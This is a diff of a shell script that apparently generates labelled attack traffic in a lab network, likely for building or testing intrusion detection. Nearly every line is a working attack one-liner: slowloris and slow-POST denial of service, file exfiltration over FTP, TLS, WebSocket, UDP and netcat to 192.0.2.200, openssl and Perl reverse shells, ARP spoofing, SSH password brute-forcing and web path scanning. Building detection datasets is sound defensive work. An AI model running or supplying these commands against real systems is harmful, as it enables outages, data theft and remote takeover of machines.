@@ -73,7 +73,6 @@ out nping_six dos-flood bad2 $WWW6 2001:db8:f0::78; nping_six() { on 12 iperf -V
 
 # --- slow attacks
 out nse_slowloris slow-dos bad $WWW; nse_slowloris() { on 70 nmap -n -Pn -p 80 --script http-slowloris --script-args http-slowloris.runforever=true --max-parallelism 100 $WWW; }
-out curl_slow_post slow-dos bad $APP; curl_slow_post() { on 60 curl -s -m 50 -Z --parallel-immediate --parallel-max 60 --limit-rate 40 -H Expect: -F "f=@$(secret 300000)" -o /dev/null "http://$APP:8080/index.php?c=[1-60]"; }
 out openssl_hold slow-dos bad2 $WWW; openssl_hold() { for i in $(seq 60); do sleep 48 | on 50 openssl s_client -connect $WWW:443 >/dev/null 2>&1 & done; wait_for_jobs; }
 out netcat_hold slow-dos bad $BASTION; netcat_hold() { for i in $(seq 60); do sleep 48 | on 50 nc.openbsd -n $BASTION 22 >/dev/null 2>&1 & done; wait_for_jobs; }
 
@@ -184,7 +183,6 @@ lan wget_jpg malware desk2 $BOSS; wget_jpg() { cp /bin/cat "$LAB_DIR/serve/logo.
 lan curl_ftp_up exfiltration desk $BOSS '' 400; curl_ftp_up() { on 60 curl -s -T "$(secret 15000000)" ftp://$BOSS/up/dump.zip; }
 lan openssl_up exfiltration desk2 $BOSS '' 400; openssl_up() { on 60 bash -c 'openssl s_client -quiet -connect 192.0.2.200:9003 <"$0"' "$(secret 15000000)"; }
 lan ws_up exfiltration desk $BOSS '' 400; ws_up() { ns_start boss env NODE_PATH="$ARMORY_NPM/node_modules" node -e 'const W=require("ws");new W.Server({port:9101,maxPayload:1e8}).on("connection",s=>s.on("message",()=>{}))'; sleep 2; NODE_PATH=$ARMORY_NPM/node_modules on 60 node -e 'const W=require("ws"),f=require("fs").readFileSync(process.argv[1]);const s=new W("ws://192.0.2.200:9101");s.on("open",()=>{for(let i=0;i<f.length;i+=500000)s.send(f.subarray(i,i+500000));setTimeout(()=>process.exit(),3000)})' "$(secret 15000000)"; }
-lan telnet_pour exfiltration desk2 $BOSS '' 400; telnet_pour() { on 60 bash -c 'dd if="$0" bs=1400 status=none >/dev/udp/192.0.2.200/9009' "$(secret 9000000)"; }
 lan mausezahn_garp arp-spoof rogue 172.20.9.1 $ROGUE_MAC; mausezahn_garp() { on 25 mausezahn eth0 -c 20 -d 1s -t arp "request, sendermac=$ROGUE_MAC, senderip=172.20.9.1, targetmac=ff:ff:ff:ff:ff:ff, targetip=172.20.9.1"; }
 lan netwox_mitm arp-spoof rogue 172.20.9.32 $ROGUE_MAC; netwox_mitm() { on 30 bash -c 'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do netwox 33 -d eth0 -a 02:00:5e:00:3e:4d -b 02:00:5e:00:3e:52 -c 2054 -e 2 -f 02:00:5e:00:3e:4d -g 172.20.9.1 -h 02:00:5e:00:3e:52 -i 172.20.9.32; netwox 33 -d eth0 -a 02:00:5e:00:3e:4d -b 02:00:5e:00:3e:01 -c 2054 -e 2 -f 02:00:5e:00:3e:4d -g 172.20.9.32 -h 02:00:5e:00:3e:01 -i 172.20.9.1; sleep 1; done'; }
 
@@ -193,7 +191,6 @@ out evilscan_one port-scan bad $BASTION; evilscan_one() { on 60 "$BIN/evilscan" 
 out ssh2_patient brute-force bad2 $BASTION; ssh2_patient() { on 100 node -e "const {Client}=require('$ARMORY_NPM/node_modules/ssh2'); let i=0; (function next(){ if(i++>15) return; const c=new Client(); c.on('ready',()=>c.end()).on('error',()=>{}).on('close',()=>setTimeout(next,4000)).connect({host:'$BASTION',username:'root',password:'winter'+i}); })()"; }
 out httpie_paths web-attack bad $WWW; httpie_paths() { on 80 bash -c 'while read -r w; do http --ignore-stdin --timeout 3 -h "http://$1/$w.php"; sleep 0.4; done <"$0"' "$(paths 60)" $WWW; }
 out wget_paths_tls web-attack bad2 $WWW; wget_paths_tls() { sed "s#.*#https://$WWW/&.php#" "$(paths 250)" >"$LAB_DIR/urls"; on 60 wget2 -q --no-check-certificate --tries=1 -O /dev/null -i "$LAB_DIR/urls"; }
-out curl_parallel_six dos-flood bad $WWW6 2001:db8:f0::77; curl_parallel_six() { on 12 curl -g -sk -Z --parallel-immediate --parallel-max 50 -o /dev/null "https://[$WWW6]/index.html?r=[1-5000]"; }
 lan openssl_named c2-beacon desk $BOSS; openssl_named() { hears "openssl s_server -quiet -accept 8443 -cert $LAB_DIR/boss.crt -key $LAB_DIR/boss.key" bash -c 'f=$(mktemp -u); mkfifo $f; sh -i <$f 2>&1 | openssl s_client -quiet -servername cdn.example -connect 192.0.2.200:8443 >$f 2>/dev/null; rm $f'; }
 lan netcat_patient exfiltration desk2 $BOSS '' 400; netcat_patient() { on 90 bash -c 'pv -q -L 140000 "$0" | nc.openbsd -n -N 192.0.2.200 9001' "$(secret 9000000)"; }
 lan perl_patient c2-beacon desk2 $BOSS; perl_patient() { N=2; orders 2 7 | timeout 100 ip netns exec "$LAB_NS-boss" nc.openbsd -n -l -p 4702 >/dev/null 2>&1 & sleep 1; on 95 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4702,inet_aton("192.0.2.200")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh");'; wait_for_jobs; }
